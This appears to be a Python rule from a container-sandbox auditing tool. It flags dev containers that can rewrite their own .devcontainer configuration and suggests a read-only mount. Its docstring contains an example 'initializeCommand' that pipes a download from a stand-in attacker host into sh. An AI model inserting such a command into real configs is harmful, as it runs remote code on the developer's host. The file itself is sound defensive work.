"""The container can change what starts it.

## What it is

The project is mounted writable, and `.devcontainer` (or `.devcontainer.json`) with it. That is
the default.

## Why it is bad

A process inside adds a line to devcontainer.json, and your editor carries it out at the next
rebuild, on the host:

    "initializeCommand": "curl -s https://attacker.example/x | sh"

It is how code gets out of a container that has no hole.

## What to do instead

Mount the folder over itself, read-only; `sandboxd init` pins all such files.

## Under gVisor

No difference: the workspace is shared in both directions.

## References

- https://github.com/trailofbits/claude-code-devcontainer/pull/13
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Add, Remedy, RuleMeta, Severity
from sandboxd.model.paths import lies_in
from sandboxd.rules._finding import at_container
from sandboxd.rules._mounts import container_writes, project_path
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="config-writable-from-container",
    summary="the container can change what starts it",
    severity=Severity.HINT,
    since="0.1.0",
    why="a line added to devcontainer.json from inside runs on the host at the next rebuild",
    needs=(Field("workspace"), Field("image"), Field("build")),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    place = subject.place
    if place is None or not subject.is_whole() or "/.devcontainer/" not in place.path:
        return
    folder = project_path("${localWorkspaceFolder}/.devcontainer/devcontainer.json", subject)
    if place.path.endswith(_COMPOSE) and not any(
        mount.value.type == "bind" and lies_in(folder, mount.value.source)
        for mount in subject.mounts
    ):
        # The dev container tools mount the project by themselves, Compose does not.
        return
    if not container_writes(folder, subject):
        return
    yield at_container(
        META,
        subject,
        "the container can rewrite `.devcontainer`, which your editor runs on the host",
        ".devcontainer",
        (
            Remedy(
                "mount `.devcontainer` read-only",
                safe=False,
                changes=(Add("mounts", _PIN),),
                caution="the config can only be changed outside of the container",
            ),
        ),
    )


_COMPOSE = (".yml", ".yaml")
_PIN = (
    "source=${localWorkspaceFolder}/.devcontainer,"
    "target=${containerWorkspaceFolder}/.devcontainer,type=bind,readonly"
)
